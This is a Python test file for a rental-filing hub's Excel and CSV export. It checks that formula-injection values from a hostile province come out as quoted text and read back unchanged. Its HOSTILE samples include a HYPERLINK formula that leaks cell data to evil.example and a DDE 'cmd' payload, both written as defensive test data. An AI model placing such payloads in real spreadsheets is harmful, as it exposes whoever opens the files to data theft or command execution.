"""Every text cell the hub writes to a spreadsheet is text: names and addresses a hostile
province sends (starting with = + - @, a tab, a carriage return) are exported as string
cells with no formula, kept as they are, and an import of the workbook reads them back."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
from lxml import etree

from adapters.manual_excel import export_workbook, import_workbook
from mapping.cells import csv_row, xlsx_row
from tests.county_support import province_messages, stages_of
from tests.hubserver import application, province_env

MANUAL = "511725"  # 渠县: no API, operators work from Excel
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
HOSTILE = {
    "applicant": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "lessee_name": "\t+1+2",
    "lessor_name": "\r-2+3",
    "house_id": "@SUM(A1:A9)",
    "address": "=cmd|' /C calc'!A0",
}


def _sheet_xml(xlsx: bytes) -> tuple[etree._Element, list[etree._Element]]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheet = etree.fromstring(z.read("xl/worksheets/sheet1.xml"))
        styles = etree.fromstring(z.read("xl/styles.xml"))
    return sheet, styles.findall("m:cellXfs/m:xf", NS)


def _cell_text(cell: etree._Element) -> str:
    return "".join(cell.itertext())


def test_hostile_values_from_the_intake_are_text_in_the_export_and_read_back(
        make_hub, store_url):
    env = province_env(make_hub, store_url, inbound=["province", "county_smart"])
    try:
        body = application(counties=(MANUAL,), **{k: v for k, v in HOSTILE.items()
                                                  if k != "applicant"})
        body["applicant"]["name"] = HOSTILE["applicant"]
        ans = env.client.submit("rental_filing", body)
        assert ans.status == 200 and ans.body["code"] == "0000", ans.body
        [sub] = ans.body["data"]["sub_cases"]
        hub = env.hub
    finally:
        env.close()
    hostile = HOSTILE

    xlsx, _ = export_workbook(hub, MANUAL, show_personal_data=True, with_materials=False)
    sheet, xfs = _sheet_xml(xlsx)
    assert sheet.findall(".//m:f", NS) == []  # no formula anywhere
    cells = sheet.findall(".//m:sheetData/m:row/m:c", NS)
    by_text = {_cell_text(c): c for c in cells}
    for value in hostile.values():
        cell = by_text[value]  # preserved exactly
        assert cell.get("t") == "inlineStr"
        assert xfs[int(cell.get("s"))].get("quotePrefix") == "1"

    # read back: the values are the ones sent; an import of the filled workbook applies
    wb = openpyxl.load_workbook(io.BytesIO(xlsx))
    ws = wb["房屋租赁备案"]
    header = [c.value for c in ws[1]]
    row = {h: c.value for h, c in zip(header, ws[2], strict=True)}
    assert row["申请人"] == hostile["applicant"] and row["坐落"] == hostile["address"]
    assert row["承租人"] == "\t+1+2" and row["出租人"] == "\r-2+3"
    assert row["房屋编号"] == "@SUM(A1:A9)"
    for label, value in (("新环节", "受理"), ("经办人", "@王窗口"), ("意见", "=同意受理")):
        cell = ws.cell(row=2, column=header.index(label) + 1)
        cell.value = value
        cell.data_type = "s"  # as Excel keeps a cell typed with a leading '
    out = io.BytesIO()
    wb.save(out)
    report = import_workbook(hub, out.getvalue(), "operator")
    assert report.ok and report.applied == 1, report.errors
    assert stages_of(hub, sub["case_no"])[-1] == "accepted"
    [status] = [m for m in province_messages(hub, case_no=sub["case_no"])
                if m["stage"] == "accepted"]
    assert status["operator"] == "@王窗口" and status["opinion"] == "=同意受理"


def test_one_function_for_every_writer():
    wb = openpyxl.Workbook()
    ws = wb.active
    values = ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "#N/A", "plain", 12, -3.5, None]
    ws.append(xlsx_row(ws, values))
    out = io.BytesIO()
    wb.save(out)
    sheet, _ = _sheet_xml(out.getvalue())
    assert sheet.findall(".//m:f", NS) == []
    read = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    assert [c.value for c in read[1]][:10] == values[:10]
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_row(values))
    assert next(csv.reader(io.StringIO(buf.getvalue()))) == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "#N/A", "plain", "12", "-3.5", ""]
